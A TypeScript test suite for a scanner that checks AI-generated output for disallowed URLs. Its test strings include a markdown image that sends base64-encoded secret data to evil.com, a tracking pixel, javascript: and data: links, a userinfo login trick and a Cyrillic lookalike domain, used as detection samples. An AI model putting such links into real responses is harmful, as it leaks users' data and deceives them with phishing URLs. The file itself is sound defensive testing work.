import { describe, expect, it } from 'vitest';
import { compiled } from './test-policy.js';
import { scanText } from '../scan.js';

const urls = (allowDomains: string[], blockMarkdownImages: boolean) =>
  compiled({ output: { urls: { allowDomains, blockMarkdownImages }, systemPromptLeakMinChars: 0 } });
const rules = (p: ReturnType<typeof urls>, text: string) =>
  scanText(p, text, 'output').findings.map((f) => [f.rule, f.category, text.slice(f.start, f.end)]);

describe('output URL checks', () => {
  const p = urls(['example.com', '*.acme.internal'], true);

  it('allow-listed hosts pass: exact and *. subdomains', () => {
    const text =
      'See https://example.com/docs, [wiki](https://wiki.acme.internal/page) and ![logo](https://cdn.acme.internal/l.png).';
    expect(scanText(p, text, 'output')).toEqual({ decision: 'allow', findings: [] });
  });

  it('blocks other hosts in bare URLs and links', () => {
    expect(rules(p, 'go to https://evil.com/x now')).toEqual([
      ['output.url-not-allowed', 'url', 'https://evil.com/x'],
    ]);
    expect(rules(p, '[click](http://acme.internal.evil.com/)')).toEqual([
      ['output.url-not-allowed', 'url', 'http://acme.internal.evil.com/'],
    ]);
    // `*.acme.internal` covers subdomains, not the apex
    expect(rules(p, 'https://acme.internal/')[0][0]).toBe('output.url-not-allowed');
  });

  it('markdown and HTML images to other hosts; data in the query makes it exfiltration', () => {
    const md = '![a](https://evil.com/p.png?q=c2VjcmV0IHRva2VuIGhlcmU)';
    expect(rules(p, md)).toEqual([
      ['output.markdown-image', 'exfiltration', 'https://evil.com/p.png?q=c2VjcmV0IHRva2VuIGhlcmU'],
    ]);
    expect(rules(p, '<img src="https://evil.com/pixel.gif">')).toEqual([
      ['output.markdown-image', 'url', 'https://evil.com/pixel.gif'],
    ]);
    // reference-style image definitions are links too
    expect(rules(p, '![x][r]\n\n[r]: https://evil.com/i.png')[0][0]).toBe('output.url-not-allowed');
  });

  it('javascript: and data: URLs in links and tags', () => {
    expect(rules(p, '[x](javascript:alert(1))')[0][0]).toBe('output.url-javascript');
    expect(rules(p, '<a href="JavaScript:fetch(1)">x</a>')[0][0]).toBe('output.url-javascript');
    expect(rules(p, '<iframe src="data:text/html;base64,PHNjcmlwdD4=">')[0][0]).toBe('output.url-data');
    expect(rules(p, '![dot](data:image/png;base64,iVBORw0KGgo=)')).toEqual([]);
    // prose mentioning the scheme is not a link
    expect(rules(p, 'The javascript: scheme runs code.')).toEqual([]);
  });

  it('userinfo tricks: the host is what follows @', () => {
    const f = rules(p, 'Login at https://example.com@evil.com/login');
    expect(f.map((x) => x[0])).toEqual(['output.url-userinfo', 'output.url-not-allowed']);
  });

  it('punycode / IDN hosts that are not allow-listed', () => {
    const f = rules(p, 'Visit https://exаmple.com/ (Cyrillic а)').map((x) => x[0]);
    expect(f).toEqual(['output.url-idn', 'output.url-not-allowed']);
    expect(rules(p, 'https://xn--exmple-4nf.com/').map((x) => x[0])).toContain('output.url-idn');
  });

  it('only images are restricted when allowDomains is empty and blockMarkdownImages is on', () => {
    const imgOnly = urls([], true);
    expect(rules(imgOnly, 'read https://anything.org/x')).toEqual([]);
    expect(rules(imgOnly, '![x](https://anything.org/x.png)')[0][0]).toBe('output.markdown-image');
  });

  it('off when the policy sets no URL options; never in the input direction', () => {
    expect(rules(urls([], false), '![x](https://evil.com/?d=secretsecret)')).toEqual([]);
    expect(scanText(p, 'https://evil.com/', 'input').findings).toEqual([]);
  });
});
